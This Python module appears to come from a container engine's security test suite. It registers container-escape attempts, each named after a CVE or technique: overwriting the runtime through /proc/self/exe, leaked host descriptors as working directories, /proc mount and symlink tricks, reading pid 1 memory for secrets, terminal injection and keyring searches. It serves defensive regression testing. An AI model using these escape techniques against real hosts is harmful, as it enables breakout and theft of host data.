"""Attempts where a process with rights meets what a container controls, each named after its kind.

Comes in:  an Engine.
Goes out:  EDGES: name -> a function that makes the attempt and says what came through, "" for nothing.
Not here:  what a program alone tries (``calls``, ``files``).
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import pty
import stat
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.security import SECRET
from tests.security.engine import IDLE, IMAGE, Engine, Project
from tests.security.machine_code import FAILED, PASSED, Call, Result, prober
from tests.security.watcher import Watcher

Attempt = Callable[[Engine], str]
EDGES: dict[str, Attempt] = {}
SLOW: set[str] = set()
_EROFS, _EPERM, _ENOKEY = 30, 1, 126


def attempt(name: str, *, slow: bool = False) -> Callable[[Attempt], Attempt]:
    """Register an attempt; what it returns went through."""

    def keep(body: Attempt) -> Attempt:
        assert name not in EDGES, name
        EDGES[name] = body
        if slow:
            SLOW.add(name)
        return body

    return keep


# --- our own interpreter: CVE-2019-5736


def _loader() -> bytes:
    """A program loader of the image that changes whatever it was loaded for."""
    this = Call(2, (b"/proc/self/exe\0", 0, 0))
    changes = (
        Call(91, (Result(0), 0o755)),  # fchmod
        Call(93, (Result(0), 0, 0)),  # fchown
        Call(190, (Result(0), b"trusted.escape\0", b"x", 1, 0)),  # fsetxattr
        Call(280, (Result(0), 0, 0, 0)),  # utimensat
    )
    return prober(this, changes, (_EROFS, _EPERM))


_INTERPRETERS = (
    "lib64/ld-linux-x86-64.so.2",
    "lib/ld-musl-x86_64.so.1",
    "lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
)


@contextlib.contextmanager
def _trapped(engine: Engine, file: str) -> Iterator[Project]:
    """A project whose image has our loader where the host's interpreter looks for its own."""
    with engine.project(file) as project:
        made = project.directory / "trap"
        made.mkdir()
        (made / "loader").write_bytes(_loader())
        (made / "loader").chmod(0o755)
        (made / "script").write_text("#!/proc/self/exe\n")
        (made / "script").chmod(0o755)
        lines = [f"FROM {IMAGE}", "COPY --chmod=755 trap/script /script", "RUN ln -s /proc/self/exe /link"]
        lines += [f"COPY --chmod=755 trap/loader /{place}" for place in _INTERPRETERS]
        (project.directory / "Dockerfile").write_text("\n".join(lines) + "\n")
        yield project


_TRAP = "services: {a: {build: ., image: NAME, entrypoint: [WHAT], INIT restart: 'no'}}\n"


def _entrypoint(what: str, *, init: bool = False) -> Attempt:
    def body(engine: Engine) -> str:
        file = _TRAP.replace("WHAT", what).replace("INIT", "init: true," if init else "")
        with _trapped(engine, file.replace("NAME", "localhost/escape-trap")) as project:
            project("build")
            project("up", "-d")
            return _changed(project.exit_code("a", 3.0))

    return body


def _changed(code: int) -> str:
    return f"change {code - PASSED} of the interpreter worked" if code >= PASSED and code < PASSED + 4 else ""


for _what, _kind in {"/proc/self/exe": "itself", "/link": "a link", "/script": "#!"}.items():
    attempt(f"CVE-2019-5736 entrypoint /proc/self/exe by {_kind}")(_entrypoint(_what))
attempt("CVE-2019-5736 entrypoint /proc/self/exe with init")(_entrypoint("/proc/self/exe", init=True))


def _executed(*options: str) -> Attempt:
    def body(engine: Engine) -> str:
        file = "services: {a: {build: ., image: localhost/escape-trap, command: [sleep, '1000']}}\n"
        with _trapped(engine, file) as project:
            project.up("--build")
            codes = [project(*options, "a", one).returncode for one in ("/proc/self/exe", "/link", "/script")]
            return next((text for code in codes if (text := _changed(code))), "")

    return body


attempt("CVE-2019-5736 exec of /proc/self/exe, a link, #!")(_executed("exec", "-T"))
attempt("CVE-2019-5736 exec --privileged of /proc/self/exe, a link, #!")(
    _executed("exec", "-T", "--privileged")
)
attempt("CVE-2019-5736 exec -d of /proc/self/exe")(_executed("exec", "-d"))


@attempt("CVE-2019-5736 RUN /proc/self/exe")
def _build(engine: Engine) -> str:
    with _trapped(
        engine, _TRAP.replace("WHAT", "sh").replace("INIT", "").replace("NAME", "localhost/escape-run")
    ) as it:
        dockerfile = it.directory / "Dockerfile"
        dockerfile.write_text(dockerfile.read_text() + 'RUN ["/proc/self/exe"]\n')
        said = it("build").stdout.decode(errors="replace")
        return next(
            (f"code {code}" for code in range(PASSED, PASSED + 4) if f" {code}" in said and "exit" in said),
            "",
        )


@attempt("CVE-2019-5736 health check /proc/self/exe")
def _health(engine: Engine) -> str:
    file = """\
services:
  a:
    build: .
    image: localhost/escape-trap
    command: [sleep, "1000"]
    healthcheck: {test: [CMD, /proc/self/exe], interval: 1s, retries: 1}
"""
    with _trapped(engine, file) as project:
        mode = _seen_by_watcher(project, lambda: time.sleep(2.5), build=True)
        return mode


# --- who comes by: CVE-2016-9962, CVE-2019-5736 from a running container

_CAPABLE = f"""\
services:
  a:
    image: {IMAGE}
    command: [sleep, "1000"]
    stop_grace_period: 0s
    EXTRA
"""
_EXTRA = {
    "cap_add ALL": "cap_add: [ALL]",
    "cap_add ALL with init": "cap_add: [ALL]\n    init: true",
    "privileged": "privileged: true",
    "health checks": "cap_add: [ALL]\n    healthcheck: {test: [CMD, 'true'], interval: 1s}",
}


def _seen_by_watcher(project: Project, come_by: Callable[[], None], *, build: bool = False) -> str:
    project.up(*(["--build"] if build else []))
    watcher = Watcher(project.pid())
    come_by()
    seen = watcher.seen()
    if project.engine.name == "pycompose":  # else the attempt has shown nothing
        assert any("python" in name for name in seen["programs"]), seen
    return "; ".join(seen["passed"])


def _watched(extra: str) -> Attempt:
    def body(engine: Engine) -> str:
        with engine.project(_CAPABLE.replace("EXTRA", extra)) as project:

            def enter() -> None:
                if "healthcheck" in extra:
                    time.sleep(3)
                for _ in range(0 if "healthcheck" in extra else 12):
                    project("exec", "-T", "a", "true")

            return _seen_by_watcher(project, enter)

    return body


for _form, _extra in _EXTRA.items():
    attempt(f"CVE-2016-9962 processes that enter, watched with {_form}")(_watched(_extra))


@attempt("pid 1 of init: true, its program, memory, environment")
def _init(engine: Engine) -> str:
    extra = "cap_add: [ALL]\n    init: true\n    security_opt: [seccomp=unconfined]"
    with engine.project(_CAPABLE.replace("EXTRA", extra)) as project:
        project.up()
        said = project.inside(
            "readlink /proc/1/exe; tr '\\0' '\\n' < /proc/1/environ; "
            "while read span rights rest; do case $rights in rw*) s=0x${span%-*}; e=0x${span#*-};"
            "dd if=/proc/1/mem bs=4096 skip=$(((s)/4096)) count=$(((e-s)/4096)) 2>/dev/null;; esac;"
            f"done < /proc/1/maps | strings | grep {SECRET}; : > /proc/1/exe && echo written"
        )
        return "; ".join(word for word in (SECRET, "python", "\nwritten") if word in said)


# --- directories and descriptors: CVE-2024-21626


@attempt("CVE-2024-21626 exec -w /proc/self/fd/N")
def _working_directory(engine: Engine) -> str:
    with engine.idle() as project, _host_directory(project) as held:
        for number in range(3, 20):
            done = project("exec", "-T", "-w", f"/proc/self/fd/{number}", "a", "cat", "marker", pass_fds=held)
            if b"of the host" in done.stdout:
                return f"descriptor {number} leads to a directory of the host"
    return ""


@attempt("CVE-2024-21626 working directory is a link to /proc/self/fd/N")
def _linked_directory(engine: Engine) -> str:
    with engine.idle() as project, _host_directory(project) as held:
        project.inside("for n in $(seq 3 23); do ln -s /proc/self/fd/$n /w$n; done")
        for number in range(3, 20):
            done = project("exec", "-T", "-w", f"/w{number}", "a", "cat", "marker", pass_fds=held)
            if b"of the host" in done.stdout:
                return f"descriptor {number} leads to a directory of the host"
    return ""


@attempt("CVE-2024-21626 run -w /proc/self/fd/N")
def _run_directory(engine: Engine) -> str:
    with engine.idle() as project, _host_directory(project) as held:
        for number in (3, 5, 8, 11):
            words = ("run", "--rm", "-T", "-w", f"/proc/self/fd/{number}", "a", "cat", "marker")
            if b"of the host" in project(*words, pass_fds=held).stdout:
                return f"descriptor {number} leads to a directory of the host"
    return ""


@attempt("CVE-2024-21626 WORKDIR /proc/self/fd/N in a build")
def _build_directory(engine: Engine) -> str:
    file = "services: {a: {build: ., image: localhost/escape-workdir}}\n"
    for number in (3, 5, 8):
        with engine.project(file) as project, _host_directory(project) as held:
            text = f"FROM {IMAGE}\nWORKDIR /proc/self/fd/{number}\nRUN cat marker; pwd -P; ls ../../../\n"
            (project.directory / "Dockerfile").write_text(text)
            if b"of the host" in project("build", pass_fds=held).stdout:
                return f"descriptor {number} leads to a directory of the host"
    return ""


@contextlib.contextmanager
def _host_directory(project: Project) -> Iterator[tuple[int, ...]]:
    """Descriptors of a directory of the host, as a script has them that says 9</directory."""
    held = project.directory / "held"
    held.mkdir(exist_ok=True)
    (held / "marker").write_text("of the host")
    made = [os.open(held, os.O_RDONLY | os.O_DIRECTORY)]
    try:
        made += [os.dup2(made[0], number) for number in range(200, 202)]
        yield tuple(made)
    finally:
        for fd in made:
            os.close(fd)


# --- what the caller has is handed in

_STREAMS = {
    "write": "echo overwritten > /proc/self/fd/0",
    "append": "echo overwritten >> /proc/self/fd/0",
    "chmod": "chmod 777 /proc/self/fd/0 /proc/self/fd/1 /proc/self/fd/2",
    "chown": "chown 1000 /proc/self/fd/0 /proc/self/fd/1 /proc/self/fd/2",
    "read": "timeout -s KILL 1 head -c 6 /proc/self/fd/1 >&2; true",
    "truncate": ": > /proc/self/fd/1",
}


def _streams(*command: str, script: str) -> Attempt:
    def body(engine: Engine) -> str:
        with engine.idle() as project:
            given, log = project.directory / "given", project.directory / "log"
            given.write_text("as it was\n")
            log.write_text("before\n")
            for file in (given, log):
                file.chmod(0o640)
            with open(given, "rb+") as stdin, open(log, "ab+") as stdout:
                done = project(
                    *command, "a", "sh", "-c", script, stdin=stdin, stdout=stdout, stderr=subprocess.PIPE
                )
            problems = []
            if given.read_text() != "as it was\n":
                problems.append("the file on standard input is overwritten")
            if not log.read_text().startswith("before\n") or b"before" in done.stderr:
                problems.append("the file on standard output is read or emptied")
            for file in (given, log):
                info = file.stat()
                if stat.S_IMODE(info.st_mode) != 0o640 or info.st_uid:
                    problems.append(f"{file.name} has another mode or owner")
            return "; ".join(problems)

    return body


for _action, _script in _STREAMS.items():
    attempt(f"files on stdin and stdout of exec -T: {_action}")(_streams("exec", "-T", script=_script))
    attempt(f"files on stdin and stdout of run -T: {_action}")(_streams("run", "--rm", "-T", script=_script))


@attempt("the null device: its mode changed by chmod of a stream")
def _null(engine: Engine) -> str:
    before = stat.S_IMODE(Path("/dev/null").stat().st_mode)
    files = "/proc/self/fd/0 /proc/self/fd/1 /proc/self/fd/2 /proc/1/fd/0"
    script = f"for f in {files}; do chmod 600 $$f; chown 1 $$f; done"
    plain = script.replace("$$", "$")
    file = f"""\
services:
  a: {{image: {IMAGE}, command: [sleep, "1000"]}}
  b: {{image: {IMAGE}, command: [sh, -c, "{script}"]}}
  c: {{image: {IMAGE}, command: [sh, -c, "{script}"], init: true}}
  d: {{image: {IMAGE}, command: [sleep, "9"], healthcheck: {{test: "{script}", interval: 1s}}}}
  e: {{build: .}}
"""
    with engine.project(file) as project:
        (project.directory / "Dockerfile").write_text(f"FROM {IMAGE}\nRUN {plain}; true\n")
        project.up("--build")
        with open(os.devnull, "rb+") as null:
            project("exec", "-T", "a", "sh", "-c", plain, stdin=null, stdout=null, stderr=null)
            project("run", "--rm", "-T", "a", "sh", "-c", plain, stdin=null, stdout=null, stderr=null)
            project("exec", "-d", "a", "sh", "-c", plain)
        time.sleep(1.2)
        info = Path("/dev/null").stat()
        if stat.S_IMODE(info.st_mode) == before and info.st_uid == 0:
            return ""
        Path("/dev/null").chmod(before)
        os.chown("/dev/null", 0, 0)  # put right what was done
        return f"/dev/null of the host has mode {info.st_mode:o}, owner {info.st_uid}"


@attempt("exec -T from a terminal: a process left behind reads what is typed")
def _left_behind(engine: Engine) -> str:
    reads = "for f in 0 1 2; do timeout 1 head -c 4 <&$f; done; timeout 1 cat /dev/tty"
    script = f"(sleep 1; {reads}) > /typed 2>&1 < /proc/self/fd/0 &"
    with engine.idle() as project:
        project.on_terminal(
            "exec", "-T", "a", "sh", "-c", script + " sleep 0.2", typed=b"secret words\n", seconds=4
        )
        typed = project.inside("sleep 2; cat /typed")
        return "typed words are read" if "secr" in typed else ""


@attempt("TIOCSTI on the caller's terminal with SYS_ADMIN")
def _typed_for(engine: Engine) -> str:
    with engine.project(IDLE.replace("command:", "cap_add: [SYS_ADMIN], command:")) as project:
        project.up()
        shown = project.on_terminal(
            "exec", "-T", "a", "sh", "-c", "for f in 0 1 2; do tty <&$f; done", seconds=5
        )[1]
        return f"the caller's terminal: {shown[:40]}" if "/dev/" in shown else ""


@attempt("run -T --user changes the owner of the caller's terminal")
def _terminal_owner(engine: Engine) -> str:
    with engine.idle() as project:
        master, slave = pty.openpty()
        name = os.ttyname(slave)
        project("run", "--rm", "-T", "--user", "1000", "a", "true", stdin=slave, stdout=slave, stderr=slave)
        info = os.fstat(slave)
        os.close(master)
        os.close(slave)
        return f"{name} belongs to {info.st_uid}" if info.st_uid else ""


@attempt("run -T --user changes the owner of the caller's named pipe")
def _pipe_owner(engine: Engine) -> str:
    with engine.idle() as project:
        pipe = project.directory / "pipe"
        os.mkfifo(pipe, 0o600)
        with open(os.open(pipe, os.O_RDWR), "rb+", buffering=0) as file:
            project(
                "run", "--rm", "-T", "--user", "1000", "a", "chmod", "777", "/proc/self/fd/1", stdout=file
            )
        info = pipe.stat()
        return f"{info.st_uid} {info.st_mode:o}" if info.st_uid or stat.S_IMODE(info.st_mode) != 0o600 else ""


def _umask(mask: int) -> Attempt:
    def body(engine: Engine) -> str:
        before = os.umask(mask)
        try:
            with engine.idle() as project:
                modes = project.inside(
                    "umask; stat -c '%n %a' / /etc/hosts /etc/hostname /etc/resolv.conf"
                ).split("\n")
        finally:
            os.umask(before)
        wanted = ["0022", "/ 755", "/etc/hosts 644", "/etc/hostname 644", "/etc/resolv.conf 644", ""]
        return "" if modes == wanted else f"modes inside: {modes}"

    return body


for _mask in (0o000, 0o027, 0o077):
    attempt(f"umask {_mask:03o} of the caller")(_umask(_mask))


def _keyring(extra: str) -> Attempt:
    def body(engine: Engine) -> str:
        file = _CAPABLE.replace("EXTRA", f"{extra}\n    volumes: ['./search:/search']")
        with engine.project(file) as project:
            program = project.directory / "search"
            program.write_bytes(prober(Call(39), _SEARCHES, (_EPERM, _ENOKEY)))
            program.chmod(0o755)
            pid = os.fork()
            if pid == 0:
                code = 1
                with contextlib.suppress(BaseException):
                    code = _search_as_holder(project)
                os._exit(code)
            code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
            assert code == FAILED or PASSED <= code < PASSED + 2, f"the search gave {code}"
            return "the caller's key is found" if code != FAILED else ""

    return body


_SEARCHES = (
    Call(250, (10, -3, b"user\0", b"escape-key\0", 0)),  # keyctl(KEYCTL_SEARCH) in the session keyring
    Call(249, (b"user\0", b"escape-key\0", 0, 0)),  # request_key(2)
)


def _search_as_holder(project: Project) -> int:
    """With a key in this process's own session keyring: what the container finds, in each form."""
    libc = ctypes.CDLL(None)
    libc.syscall(250, 1, None)
    libc.syscall(248, b"user", b"escape-key", b"secret", 6, -3)
    codes = [project("run", "--rm", "-T", "a", "/search").returncode]
    project.up()
    codes.append(project("exec", "-T", "a", "/search").returncode)
    codes.append(project.on_terminal("exec", "a", "/search")[0])
    return next((code for code in codes if code != FAILED), FAILED)


attempt("session keyring of the caller, seccomp=unconfined")(_keyring("security_opt: [seccomp=unconfined]"))
attempt("session keyring of the caller, privileged")(_keyring("privileged: true"))


# --- files inside are believed

_STRANGE = {
    "a named pipe": "mkfifo /etc/F",
    "a link to /dev/zero": "ln -s /dev/zero /etc/F",
    "a link to a named pipe": "mkfifo /pipe; ln -s /pipe /etc/F",
    "huge": "truncate -s 200G /etc/F",
    "a directory": "mkdir /etc/F",
    "a device": "mknod /etc/F c 1 5",
    "a terminal": "ln -s /dev/tty /etc/F",
    "a magic link": "ln -s /proc/self/fd/0 /etc/F",
    "a magic link to another root": "ln -s /proc/1/root/etc/group /etc/F",
    "a loop of links": "ln -s F /etc/F",
    "a socket": "timeout 1 nc -l -U /etc/F; nc -lU /etc/F & sleep 0.1",
    "kernel messages": "ln -s /proc/kmsg /etc/F",
    "not there": ":",
}


def _strange(file: str, make: str) -> Attempt:
    def body(engine: Engine) -> str:
        with engine.idle() as project:
            project.inside(f"cp -n /etc/{file} /{file}; rm -rf /etc/{file}; {make.replace('F', file)}")
            try:
                return next(
                    (text for user in ("web", "0:staff", "1000") if (text := _as_user(project, user))), ""
                )
            finally:
                restore = f"rm -rf /etc/{file} /pipe; cp /{file} /etc/{file}"
                try:
                    project("exec", "-T", "a", "sh", "-c", restore, seconds=5)
                except subprocess.TimeoutExpired:  # nothing can enter this container any more
                    engine.close()

    return body


def _as_user(project: Project, user: str) -> str:
    began = time.monotonic()
    try:
        done = project("exec", "-T", "-u", user, "a", "id", "-u", seconds=6)
    except subprocess.TimeoutExpired:
        return f"exec -u {user} waits for ever"
    if done.returncode == 0 and user == "1000" and done.stdout.strip() != b"1000":
        return f"a number is another user: {done.stdout!r}"
    took = time.monotonic() - began
    return f"exec -u {user} takes {took:.0f} s" if took > 5 else ""


@attempt("/etc/passwd is a named pipe at a restart")
def _strange_start(engine: Engine) -> str:
    file = IDLE.replace("command:", "user: web, restart: always, command:")
    with engine.project(file) as project:
        project.up()
        project.inside("rm /etc/passwd; mkfifo /etc/passwd", "-u", "0")
        try:
            project("kill", seconds=10)
            project("up", "-d", seconds=15)
            project("down", "-t", "0", seconds=15)
        except subprocess.TimeoutExpired as error:
            return f"{error.cmd[-3:]} waits for ever"
    return ""


for _kind, _make in _STRANGE.items():
    for _file in ("passwd", "group"):
        attempt(f"/etc/{_file} is {_kind}")(_strange(_file, _make))

_NAMES = {
    "1000": ("1000:x:0:0::/:/bin/sh", "1000"),
    "1000:1000": ("1000:x:0:0::/:/bin/sh", "1000"),
    "0": ("0:x:4321:4321::/:/bin/sh", "0"),
    "00": ("00:x:4321:4321::/:/bin/sh", "0"),
    "65534": ("65534:x:0:0::/:/bin/sh", "65534"),
}


def _number(asked: str, line: str, wanted: str) -> Attempt:
    def body(engine: Engine) -> str:
        with engine.idle() as project:
            lines = f"(echo '{line}'; echo 'root:x:0:0::/root:/bin/sh') > /etc/passwd"
            project.inside(f"cp -n /etc/passwd /passwd; {lines}")
            got = project.inside("id -u", "-u", asked).strip()
            project.inside("cp /passwd /etc/passwd")
            return "" if got == wanted or not got.isdigit() else f"user {asked} is {got}"

    return body


for _asked, (_line, _wanted) in _NAMES.items():
    attempt(f"user {_asked} is a name in /etc/passwd")(_number(_asked, _line, _wanted))


@attempt("a service that is stuck: others start, stop, and the project goes down")
def _stuck(engine: Engine) -> str:
    file = f"""\
services:
  stuck:
    build: .
    user: web
    command: [sleep, "1000"]
  other: {{image: {IMAGE}, command: [sleep, "1000"], stop_grace_period: 0s}}
"""
    with engine.project(file) as project:
        (project.directory / "Dockerfile").write_text(
            f"FROM {IMAGE}\nRUN rm /etc/passwd && mkfifo /etc/passwd\n"
        )
        try:
            project("up", "-d", "--build", seconds=30)
            if project("up", "-d", "other", seconds=15).returncode:
                return "another service does not start"
            if b"ok" not in project("exec", "-T", "other", "echo", "ok", seconds=10).stdout:
                return "another service cannot be entered"
            project("down", "-t", "0", seconds=15)
        except subprocess.TimeoutExpired as error:
            return f"{error.cmd[-3:]} waits for ever"
    return ""


# --- names that a container can change: CVE-2017-1002101, CVE-2021-30465, CVE-2019-16884, CVE-2023-27561

_SUBPATH = f"""\
services:
  a: {{image: {IMAGE}, command: [sleep, "1000"], stop_grace_period: 0s, volumes: ["vol:/v"]}}
  b:
    image: {IMAGE}
    command: [sh, -c, "ls /m; sleep 1000"]
    stop_grace_period: 0s
    volumes: [{{type: volume, source: vol, target: /m, volume: {{subpath: PLACE}}}}]
volumes: {{vol: }}
"""
_PLACES = {
    "a link to /": ("x", "ln -s / /v/x"),
    "a link upwards": ("x", "ln -s ../../../../../../.. /v/x"),
    "a link in the middle": ("x/etc", "ln -s / /v/x"),
    "a magic link": ("x", "ln -s /proc/self/root /v/x"),
    "a magic link to a working directory": ("x", "ln -s /proc/1/cwd /v/x"),
    "dots": ("../../../../../..", ":"),
    "an absolute path": ("/", ":"),
}


def _subpath(place: str, plant: str) -> Attempt:
    def body(engine: Engine) -> str:
        marks = {path.name for path in Path("/").iterdir()} & {"boot", "sys", "opt", "srv", "media"}
        with engine.project(_SUBPATH.replace("PLACE", place)) as project:
            project.up("a")
            project.inside(plant)
            project("up", "-d", "b")
            listed = {*project.log("b").split()}
            seen = marks & listed or {"passwd", "hosts", "shadow"} & listed
            return f"files of the host: {sorted(seen)}" if seen else ""

    return body


for _kind, (_place, _plant) in _PLACES.items():
    attempt(f"CVE-2017-1002101 subpath of a volume is {_kind}")(_subpath(_place, _plant))

_IN_PROC = {
    "CVE-2019-16884 a volume over /proc": "/proc",
    "CVE-2025-52881 a volume over /proc/self/attr": "/proc/self/attr",
    "a volume over /proc/sys/kernel": "/proc/sys/kernel",
    "a volume over /proc/1": "/proc/1",
    "a volume over /proc by dots": "/tmp/../proc/sys/kernel",
    "CVE-2023-27561 a volume over a link to /proc/sys": "/link/kernel",
    "a volume over a link to /proc": "/proclink",
}
_OVER = (
    'awk \'$5 ~ "^/proc" && $5 !~ "^/proc/(kcore|keys|timer_list|bus|fs|irq|sys|sysrq-trigger|[a-z_]+)$"\''
)


def _in_proc(kind: str, target: str) -> Attempt:
    def body(engine: Engine) -> str:
        mount = f"vol:{target}" if kind == "volume" else target
        key = "volumes" if kind == "volume" else "tmpfs"
        file = (
            "services:\n  a:\n    build: .\n    command: [sleep, '1000']\n    stop_grace_period: 0s\n"
            f"    {key}: ['{mount}']\n" + ("volumes: {vol: }\n" if kind == "volume" else "")
        )
        with engine.project(file) as project:
            text = f"FROM {IMAGE}\nRUN ln -s /proc/sys /link && ln -s /proc /proclink\n"
            (project.directory / "Dockerfile").write_text(text)
            if project("up", "-d", "--build").returncode:
                return ""
            seen = project.inside(f"{_OVER} /proc/self/mountinfo; [ -e /proc/self/stat ] || echo no procfs")
            return f"mounted: {seen.strip()[:100]}" if seen.strip() and "not running" not in seen else ""

    return body


for _name, _target in _IN_PROC.items():
    attempt(_name)(_in_proc("volume", _target))
    attempt(_name.replace("volume", "tmpfs"))(_in_proc("tmpfs", _target))


@attempt("CVE-2021-30465 a mount point's parent becomes a link to /proc before a restart")
def _renamed(engine: Engine) -> str:
    script = (
        "[ -e /again ] && { echo second; awk '/CapEff/ {print $2}' /proc/self/status; "
        "grep ' /proc/sys/kernel' /proc/self/mountinfo; sleep 1000; }; "
        "touch /again; mkdir -p /v; echo 40 > /a/kernel/cap_last_cap; mv /a /old; ln -s /proc/sys /a; exit 1"
    )
    file = f"""\
services:
  a:
    image: {IMAGE}
    command: [sh, -c, "{script.replace("$", "$$")}"]
    restart: always
    stop_grace_period: 0s
    volumes: ["vol:/a/kernel"]
volumes: {{vol: }}
"""
    with engine.project(file) as project:
        project("up", "-d")
        said = project.log_until("a", "second", 3).partition("second")[2].split()
        problems = [word for word in said[:1] if word != "00000000a80425fb"]
        return "; ".join([*problems, *(word for word in said[1:] if word.startswith("/proc/sys/kernel"))])


@attempt("RUN --mount=type=cache over /proc/sys/kernel")
def _build_mount(engine: Engine) -> str:
    with engine.project("services: {a: {build: ., image: localhost/escape-mount}}\n") as project:
        mount = "--mount=type=cache,target=/proc/sys/kernel"
        write, read = "echo 40 > /proc/sys/kernel/cap_last_cap", "cat /proc/self/mountinfo"
        text = f"FROM {IMAGE}\nRUN {mount} {write}\nRUN {mount} {read}\n"
        (project.directory / "Dockerfile").write_text(text)
        said = project("build", "--no-cache").stdout.decode(errors="replace")
        found = [line for line in said.splitlines() if " /proc/sys/kernel " in line and " - " in line]
        return f"mounted: {found[0][:100]}" if found else ""


@attempt("VOLUME /proc in an image")
def _image_volume(engine: Engine) -> str:
    file = "services: {a: {build: ., command: [sleep, '1000'], stop_grace_period: 0s}}\n"
    with engine.project(file) as project:
        (project.directory / "Dockerfile").write_text(f"FROM {IMAGE}\nVOLUME /proc\n")
        project("up", "-d", "--build")
        project("up", "-d")
        seen = project.inside("[ -e /proc/self/stat ] || echo no procfs; grep -c ' /proc proc ' /proc/mounts")
        return seen if "no procfs" in seen else ""
